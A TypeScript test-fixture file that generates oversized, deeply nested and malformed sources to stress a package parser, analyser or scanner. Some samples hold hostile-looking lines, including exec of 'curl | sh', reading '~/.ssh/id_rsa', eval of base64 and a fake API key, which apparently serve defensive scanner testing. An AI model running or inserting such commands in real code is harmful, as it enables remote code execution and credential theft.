// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are sources with templates
/** Sources made to be too much for a parser, an analysis or a regular expression. */
import {
  asEntry,
  asFile,
  entry,
  fill,
  type HostilePackage,
  hostile,
  many,
  NEARLY_ALL_PARSED,
  NEARLY_TWO_MIB,
} from './hostile-package.ts';

const nested = (open: string, close: string, depth: number, inner = '1'): string =>
  open.repeat(depth) + inner + close.repeat(depth);

/** Parsed, analysed, checked. */
const FILES: readonly HostilePackage[] = [
  asFile('one line', () => `export const x = "${'a'.repeat(NEARLY_ALL_PARSED)}";`),
  asFile('brackets', () => `x = ${nested('(', ')', 900_000)};`),
  asFile('brackets that a scan takes for a text', () => `/'/;${nested('[', ']', 900_000)}`),
  asFile('conditions', () => `x = ${fill('a?b:', NEARLY_ALL_PARSED)}c;`),
  asFile('conditions in conditions', () => `x = ${fill('a?', 900_000)}1${fill(':b', 900_000)};`),
  asFile('templates', () => `x = ${nested('`${', '}`', 900)};${fill('`${a}`;', 1_800_000)}`),
  asFile('elements', () => `x = ${nested('<a>', '</a>', 200_000)};`, 'lib/hostile.tsx'),
  asFile('a sum', () => `x = ${fill('a+', NEARLY_ALL_PARSED)}a;`),
  asFile('a power', () => `x = ${fill('a**', NEARLY_ALL_PARSED)}a;`),
  asFile('optional chains', () => `x = a${fill('?.a', NEARLY_ALL_PARSED)};`),
  asFile('calls', () => `x = a${fill('()', 1_000_000)};`),
  asFile('spreads', () => `x = {${fill('...a,', 1_200_000)}};`),
  asFile('class bodies', () => fill('class A{a(){}b=1;static{}}', 1_400_000)),
  asFile('classes in classes', () => nested('class A{a=class{a(){return ', '}}}', 300, 'a')),
  asFile('labels', () => `${fill('a:', NEARLY_ALL_PARSED)}b;`),
  asFile('regular expressions', () => fill('x=/(a+)+(b*)*$/.test(a);', 1_400_000)),
  asFile('signs', () => `x = ${'!'.repeat(NEARLY_ALL_PARSED)}1;`),
  asFile('arrows', () => `x = ${fill('a=>', NEARLY_ALL_PARSED)}a;`),
  asFile('new', () => `x = ${fill('new ', NEARLY_ALL_PARSED)}a;`),
  asFile('awaits', () => `x = ${fill('await ', NEARLY_ALL_PARSED)}a;`),
  asFile('if', () => `${fill('if(a)', NEARLY_ALL_PARSED)}b;`),
  asFile('else if', () => `${fill('if(a);else ', NEARLY_ALL_PARSED)};`),
  asFile('blocks', () => fill('{}', NEARLY_ALL_PARSED)),
  asFile('semicolons', () => ';'.repeat(NEARLY_ALL_PARSED)),
  asFile('assignments', () => `${fill('a=', NEARLY_ALL_PARSED)}b;`),
  asFile('commas', () => `x = [${','.repeat(1_400_000)}];`),
  asFile('types', () => `type A = ${nested('A<', '>', 600_000, 'B')};`),
  asFile('unions', () => `type A = ${fill('B|', NEARLY_ALL_PARSED)}C;`),
  asFile('arrows or brackets', () => `x = ${nested('(a=', ')', 900)};`),
  asFile('async or a call', () => `x = ${nested('async(a=', ')', 900)};`),
  asFile('generic or an element', () => `x = ${nested('<T>(a=', ')', 400)};`),
  asFile('a condition or an arrow', () => `x = ${nested('a?(b):(c:d=', ')=>e', 200)};`),
  asFile('a condition or a typed arrow', () => `x = ${many(40, () => 'a?(b)=>(c):')}d;`),
  asFile('less or a type argument', () => `x = ${fill('a<', NEARLY_ALL_PARSED)}b;`),
  asFile('patterns', () => `const ${nested('{a:', '}', 900, 'x')} = y;`),
  asFile('decorators', () => `${fill('@a ', 900_000)}class A{}`),
  asFile('comments', () => fill('/**/', NEARLY_ALL_PARSED)),
  asFile('an open comment', () => `/*${fill('/*', NEARLY_ALL_PARSED)}`),
  asFile('an open text', () => `x = '${'a'.repeat(NEARLY_ALL_PARSED)}`),
  asFile('open templates', () => `x = ${'`'.repeat(1_000_001)}`),
  asFile('quotes', () => fill(`'"\``, NEARLY_ALL_PARSED)),
  asFile('slashes', () => fill('a/a /', NEARLY_ALL_PARSED)),
  asFile('blanks', () => `x${' '.repeat(NEARLY_ALL_PARSED)};`),
  asFile('line ends', () => '\n'.repeat(NEARLY_ALL_PARSED)),
  asFile('carriage returns', () => '\r'.repeat(NEARLY_ALL_PARSED)),
  asFile('names of many bytes', () => many(20_000, (i) => `let 𝒳${'变'.repeat(10)}${i} = '\\u{1F600}';`)),
  asFile('escapes', () => `x = '${fill('\\u0061', NEARLY_ALL_PARSED)}';`),
  asFile('long base64', () => `x = '${fill('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo', NEARLY_ALL_PARSED)}';`),
  asFile('hex', () => `x = [${fill('0x6a,', 1_000_000)}];`),
  asFile('a key of everything', () => fill('const apiKey = "sk-AAAAAAAAAAAAAAAAAAAAAA";\n', 1_200_000)),
  asFile('dots', () => `x = "${fill('a.', NEARLY_ALL_PARSED)}";`),
  asFile('addresses', () => `x = "${fill('http://a.b/', NEARLY_ALL_PARSED)}";`),
  asFile('shell', () => many(8000, (i) => `require('child_process').exec(\`curl \${a${i}} | sh -c "$(cat)"\`);\n`)),
  asFile('requests', () => many(30_000, (i) => `fetch('https://h${i}.example.com/' + a);\n`)),
  asFile('concatenations', () => `let a = '';${many(60_000, (i) => `a += 'x' + a + ${i};`)}fetch(a);`),
  asFile('variables', () => many(40_000, (i) => `process.env.V${i};`)),
  asFile('every use', () =>
    many(9_000, (i) => `import('node:fs').then((f) => f.readFileSync(d${i} + process.env.X + '/.ssh/id_rsa'));`),
  ),
  asFile('evals', () => fill('eval(atob("YQ=="));', 1_000_000)),
];

/** Bytes that are no source. */
const BYTES: readonly HostilePackage[] = [
  asFile('binary', () => pseudoRandom(NEARLY_TWO_MIB)),
  asFile('NUL', () => '\0'.repeat(NEARLY_TWO_MIB)),
  asFile('no UTF-8', () => Buffer.concat([Buffer.from('x = "'), Buffer.alloc(1_000_000, 0xff), Buffer.from('";')])),
  asFile('UTF-16', () => Buffer.from(`\ufeff${fill('fetch("https://a.example.com");', 900_000)}`, 'utf16le')),
  asFile('2 MiB and one byte', () => `//${'x'.repeat(2 * 1024 * 1024 - 1)}`),
  asFile('25 MiB', () => `//${'x'.repeat(25 * 1024 * 1024 - 2)}`),
  hostile('entry: binary', () => ({ 'index.ts': pseudoRandom(1_000_000) })),
  hostile('entry: UTF-16', () => ({ 'index.ts': Buffer.from(`\ufeff${entry()}`, 'utf16le') })),
];

/** Not evenly distributed, but the same in every run. */
export function pseudoRandom(length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = 1;
  for (let index = 0; index < length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[index] = state >>> 16;
  }
  return bytes;
}

/** Bundled and evaluated as well. */
const ENTRIES: readonly HostilePackage[] = [
  asEntry('brackets', () => `export default ${nested('(', ')', 900_000)};`),
  asEntry('signs', () => `export default ${'!'.repeat(1_900_000)}1;`),
  asEntry('a sum', () => `${entry()}let a = 1; export const x = ${fill('a+', 1_900_000)}a;`),
  asEntry('conditions in conditions', () => `export default ${fill('a?', 900_000)}1${fill(':b', 900_000)};`),
  asEntry('optional chains', () => `let a; export default a${fill('?.a', 1_900_000)};`),
  asEntry('statements', () => `${entry()}${fill('a.b(1);', 1_900_000)}`),
  asEntry('functions', () => `${entry()}${many(40_000, (i) => `export function f${i}(a) { return a + ${i}; }\n`)}`),
  asEntry('an open text', () => `export default '${'a'.repeat(1_900_000)}`),
  asEntry('a large text', () => `${entry()}export const x = "${'a'.repeat(1_900_000)}";`),
];

export const SOURCE_KINDS: readonly HostilePackage[] = [...FILES, ...BYTES, ...ENTRIES];
